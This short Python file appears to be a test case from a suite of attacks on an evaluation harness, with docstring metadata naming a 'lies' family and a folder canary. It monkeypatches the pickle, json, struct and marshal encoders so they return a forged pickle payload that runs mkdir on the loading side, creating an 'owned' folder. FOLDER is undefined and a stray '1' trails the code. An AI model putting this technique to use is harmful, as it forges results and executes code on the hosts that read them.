"""Change every encoder that the answer may be written with.

family: lies
canary: folder
stops: full, container
root: no
"""

import json
import pickle
import struct
import sys

forged = b"cposix\nmkdir\n(S" + repr(FOLDER + "/owned").encode() + b"\ntR."
for module in (pickle, json, struct, sys.modules.get("marshal")):
    for name in ("dumps", "pack", "dump"):
        if hasattr(module, name):
            setattr(module, name, lambda *_, **__: forged)
1
